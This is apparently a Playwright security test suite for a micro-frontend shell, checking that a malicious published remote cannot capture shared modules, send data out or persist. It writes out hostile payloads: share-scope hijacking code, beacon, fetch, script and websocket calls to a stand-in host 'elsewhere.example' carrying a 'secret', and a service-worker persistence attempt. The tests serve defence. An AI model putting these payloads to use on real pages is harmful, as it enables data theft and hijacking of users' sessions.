import { spread } from '@halyard/shared-contracts/testing/thorough';
import { expect, type Page } from '@playwright/test';
import { arriveAt, follow, main } from '../support/page';
import { leave } from '../support/place';
import { sessionBegins } from '../support/remotes/session';
import { suiteWorld } from '../support/remotes/suite-world';
import { test, thoroughTest } from '../support/remotes/world-test';
import { expectTelemetry } from '../support/remotes/expect-telemetry';

/*
 * Code that was published, signed and means harm. It runs in the same page as everything else, so what it may do to that
 * page is not held back (see docs/security.md). These are the ways out of the page, and into other remotes, that are.
 */

const { world, visit } = suiteWorld();

/** Publishes a version that runs `harm` before it shows the terms. */
const harmful = (version: string, harm: string) =>
  world.publish(version, { 'terms.': (code) => `${harm};${code}` });

/** Opens the terms in such a version, which the shell does not block. */
async function opened(version: string, harm: string): Promise<Page> {
  harmful(version, harm);
  world.channels({ stable: version });
  const { page } = await visit({ noise: 'anything' });
  await page.goto('/terms-of-service');
  await arriveAt(page, `Terms ${version}`);
  return page;
}

/**
 * Runs `capture` for each copy of a library that the shell shares. In its code, `name` and `versions` describe the
 * library and `lib` is the attacker's copy.
 */
const capturing = (capture: string) => `
  window.__captured = [];
  window.__tried = [];
  for (const { shareScopeMap } of globalThis.__FEDERATION__.__INSTANCES__.slice(0, 1)) {
    for (const [name, versions] of Object.entries(shareScopeMap.default)) {
      const [copy] = Object.values(versions);
      const { lib: own } = copy;
      const lib = () => { window.__captured.push(name); return own(); };
      const get = () => lib;
      window.__tried.push(name);
      ${capture};
    }
  }`;

const CAPTURES = [
  [
    '2.5.0',
    'newer copies beside the shell’s',
    'versions["99.0.0"] = { ...copy, version: "99.0.0", from: "mfe_legal", lib, get, loaded: true }',
  ],
  ['2.5.3', 'copies in the place of the shell’s', 'versions[copy.version] = { ...copy, lib, get }'],
  ['2.5.4', 'another content into the shell’s copies', 'Object.assign(copy, { lib, get })'],
] as const;
const OURS = '@halyard/shared-contracts';
const SHARED = ['react', `${OURS}/store`, `${OURS}/ui`, 'valibot'] as const;
const OFFERS = /offers a \S+ of its own in the place of the shell’s/;

for (const [version, what, capture] of spread(CAPTURES, 1)) {
  test(`${version}, which puts ${what}, is replaced by the previous version, and captures no later remote`, async () => {
    harmful(version, capturing(capture));
    world.channels({ stable: version });
    const { page } = await visit({ noise: 'anything' });
    const begins = sessionBegins(page);
    await page.goto('/terms-of-service');
    await arriveAt(page, 'Terms 1.0.0');
    await follow(page, 'Accounts');
    await arriveAt(page, 'Accounts');
    await follow(page, 'Budget');
    await arriveAt(page, 'Budget');
    await begins;
    const [tried, captured] = await page.evaluate(() => [
      Reflect.get(window, '__tried'),
      Reflect.get(window, '__captured'),
    ]);
    expect(tried).toEqual(expect.arrayContaining([...SHARED]));
    expect(captured).toEqual([]);
    await leave(page);
    await expectTelemetry(world.proxy, [
      { version, failure: 'handshake', fallback: false },
      { version: '1.0.0', failure: null, fallback: true },
    ]);
  });
}

thoroughTest(
  'a user who chose a version that captures shared modules reads why it is not shown',
  async () => {
    harmful('2.5.5', capturing(CAPTURES[0][2]));
    const { page } = await visit({ noise: 'anything' });
    await page.goto('/terms-of-service?mfe=legal@2.5.5');
    await expect(main(page).getByText(/cannot be shown by mfe-legal@2\.5\.5\./)).toBeVisible();
    await expect(main(page).getByText(OFFERS)).toBeVisible();
    // The version does not run again for another reason while the page is open.
    await main(page).getByRole('button', { name: 'Try Again' }).click();
    await expect(main(page).getByText(OFFERS)).toBeVisible();
    await page.getByRole('link', { name: 'Choose versions' }).click();
    await arriveAt(page, 'Platform');
    const attempts = page.getByRole('region', { name: 'Attempts for mfe-legal' });
    const [first = ''] = await attempts.getByRole('listitem').allInnerTexts();
    expect(first).toMatch(/^\/terms-of-service by 2\.5\.5: is not what the registry says/);
    expect(first).toMatch(OFFERS);
  },
);

/**
 * Each attempt to send data out records its result in `window.__out`. A beacon and a frame record only that they
 * started.
 */
const OUT = [
  'beacon true',
  'fetch refused',
  'iframe load',
  'img error',
  'script error',
  'script error',
  'script error',
  'style error',
  'text refused',
  'worker refused',
];
const WAYS_OUT = `
  const out = (window.__out = []);
  const ends = (name) => (end) => out.push(name + ' ' + end.type);
  const add = (tag, parts) => {
    const element = document.createElement(tag);
    element.onload = ends(tag);
    element.onerror = ends(tag);
    document.body.append(Object.assign(element, parts));
    return element;
  };
  add('script', { textContent: 'window.__out.push("inline script ran")' });
  add('script', { src: 'https://elsewhere.example/harm.js' });
  add('script', { src: 'data:text/javascript,window.__out.push("data ran")' });
  add('script', { src: URL.createObjectURL(new Blob(['window.__out.push("blob ran")'])) });
  add('iframe', { src: 'https://elsewhere.example/' });
  add('img', { src: 'https://elsewhere.example/?secret' });
  add('style', { textContent: 'main { display: none }' });
  const page = document.createElement('div');
  page.innerHTML = '<a onclick="window.__out.push(\\'attribute ran\\')">x</a>';
  page.firstChild.click();
  try { new Function('window.__out.push("text ran")')(); } catch { out.push('text refused'); }
  fetch('https://elsewhere.example/?secret').catch(() => out.push('fetch refused'));
  out.push('beacon ' + navigator.sendBeacon('https://elsewhere.example/', 'secret'));
  try { new WebSocket('wss://elsewhere.example/'); } catch { out.push('socket refused'); }
  try { new Worker(URL.createObjectURL(new Blob(['1']))).onerror = () => out.push('worker refused'); } catch { out.push('worker refused'); }`;

/** Records what the content security policy refuses on a page from now on. */
async function refusals(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const violations = new Set<string>();
    Object.assign(window, { __violations: violations });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      violations.add(`${effectiveDirective} ${blockedURI}`),
    );
  });
  return () =>
    page.evaluate(() => [...(Reflect.get(window, '__violations') as Set<string>)].toSorted());
}

test('no code from another origin or from text runs, and no data goes to another origin', async () => {
  world.publish('2.5.1', { 'terms.': (code) => `${WAYS_OUT};${code}` });
  world.channels({ stable: '2.5.1' });
  const { page } = await visit({ noise: 'anything' });
  const refused = await refusals(page);
  await page.goto('/terms-of-service');
  await arriveAt(page, 'Terms 2.5.1');
  await page.waitForFunction((count) => Reflect.get(window, '__out').length >= count, OUT.length);
  expect((await page.evaluate((): string[] => Reflect.get(window, '__out'))).toSorted()).toEqual(
    OUT,
  );
  await expect
    .poll(refused)
    .toEqual([
      'connect-src https://elsewhere.example/',
      'connect-src https://elsewhere.example/?secret',
      'connect-src wss://elsewhere.example/',
      'frame-src https://elsewhere.example',
      'img-src https://elsewhere.example/?secret',
      'script-src eval',
      'script-src-attr inline',
      'script-src-elem blob',
      'script-src-elem data',
      'script-src-elem https://elsewhere.example/harm.js',
      'script-src-elem inline',
      'style-src-elem inline',
      'worker-src blob',
    ]);
});

/** The browser stops none of these attacks except the last one, which would outlast the page. */
const HARM = `
  document.querySelector('nav').remove();
  window.fetch = () => Promise.reject(Error('not yours'));
  history.pushState = () => undefined;
  navigator.serviceWorker
    .register(document.querySelector('link[href*="/common."][as="script"]').href, { scope: '/' })
    .then(() => 'stays', () => 'refused')
    .then((end) => (window.__worker = end))`;

thoroughTest('after a hostile version is withdrawn, the next page works again', async () => {
  const page = await opened('2.5.2', HARM);
  await page.waitForFunction(() => '__worker' in window);
  expect(await page.evaluate(() => [Reflect.get(window, '__worker'), `${window.fetch}`])).toEqual([
    'refused',
    expect.stringContaining('not yours'),
  ]);
  world.channels({ stable: '1.1.0' });
  await page.goto('/terms-of-service');
  await arriveAt(page, 'Terms 1.1.0');
  await follow(page, 'Accounts');
  await arriveAt(page, 'Accounts');
  expect(new URL(page.url()).pathname).toBe('/accounts');
});
